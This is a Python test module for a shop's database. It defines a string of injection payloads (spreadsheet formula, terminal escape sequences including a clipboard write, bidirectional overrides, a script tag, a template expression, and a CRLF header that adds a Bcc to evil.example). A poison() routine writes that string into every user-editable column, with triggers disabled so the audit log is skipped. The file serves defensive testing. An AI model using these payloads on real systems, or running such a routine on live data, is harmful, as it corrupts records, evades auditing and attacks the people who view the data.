"""Text that attacks whatever shows it, and the columns of the database that may hold such text."""

from __future__ import annotations

import unicodedata

import asyncpg

HOSTILE = (
    "=1+1\x1b[2J\x1b]0;owned\x07\x1b]52;c;ZXZpbA==\x1b\\\x9b31m\x7f\u202eevil\u2066\u2028"
    "<script>alert(1)</script>[@click=app.quit]quit[/][red]{{ 7 * 7 }}%s\r\n\r\nBcc: everybody@evil.example\r\n"
)
"""A formula, commands to a terminal (also in 8 bits), marks of direction, HTML, markup, a template, further lines."""

# What the outside may write into: shoppers, Stripe, catalog files, mail servers, operators.
FREE = {
    "acts": "actor note",
    "alerts": "subject",
    "api_tokens": "created_by revoked_by",
    "batch_items": "outcome",
    "batches": "holder host note operator why",
    "charges": "decline_message",
    "checkout_sessions": "unknown_words url",
    "dispute_drafts": "saved_by",
    "dispute_requests": "error operator",
    "disputes": "network_reason reason unknown_words",
    "fraud_warnings": "fraud_type",
    "operator_log": "host operator",
    "item_care": "note note_by owner",
    "drifts": "differences",
    "operators": "created_by database_role disabled_by os_user token",
    "proposals": "host note outcome",
    "order_care": "owner",
    "order_changes": "actor note",
    "order_items": "description image_url name",
    "order_shipping": "carrier city estimate label line1 line2 name postal_code state tracking_number tracking_url",
    "order_texts": "text",
    "orders": "customer_email customer_name customer_phone discount_code locale",
    "outbox": "last_error",
    "products": "description image_url name",
    "refund_requests": "error operator",
    "refunds": "unknown_words",
    "session_attempts": "error",
    "webhook_endpoints": "created_by disabled_why",
    "stock_movements": "actor note",
    "stripe_events": "api_version last_error reason type",
}
"""The columns that hold text of anyone's choice, by table."""


def unsafe_in(text: str) -> set[str]:
    """Return the characters of an output that a terminal would obey, or that change the order of what is shown."""
    return {char for char in text if char != "\n" and unicodedata.category(char) in ("Cc", "Cf", "Zl", "Zp", "Cs")}


async def poison(connection: asyncpg.Connection) -> None:
    """Write hostile text into all these columns of all rows."""
    # Without triggers: one keeps the audit log as it is.
    await connection.execute("SET session_replication_role = replica")
    for table, columns in FREE.items():
        for column in columns.split():
            text = HOSTILE[:64] if column == "owner" else HOSTILE  # an owner's name is no longer
            await connection.execute(f"UPDATE {table} SET {column} = $1 WHERE {column} IS NOT NULL", text)
    await connection.execute("RESET session_replication_role")


def dispute_object(dispute_id: str, intent_id: str, amount: int) -> dict[str, object]:
    """Return a dispute that needs a response, so that explanations mention its reason."""
    return {
        "id": dispute_id,
        "object": "dispute",
        "payment_intent": intent_id,
        "charge": None,
        "amount": amount,
        "currency": "eur",
        "reason": "fraudulent",
        "status": "needs_response",
    }


def declined_charge(charge_id: str, intent_id: str) -> dict[str, object]:
    """Return a charge that the bank declined, with its message."""
    return {
        "id": charge_id,
        "object": "charge",
        "payment_intent": intent_id,
        "status": "failed",
        "created": 1_790_000_000,
        "failure_code": "card_declined",
        "failure_message": "Your card was declined.",
        "payment_method_details": {"type": "card", "card": {"brand": "visa", "last4": "0002"}},
    }
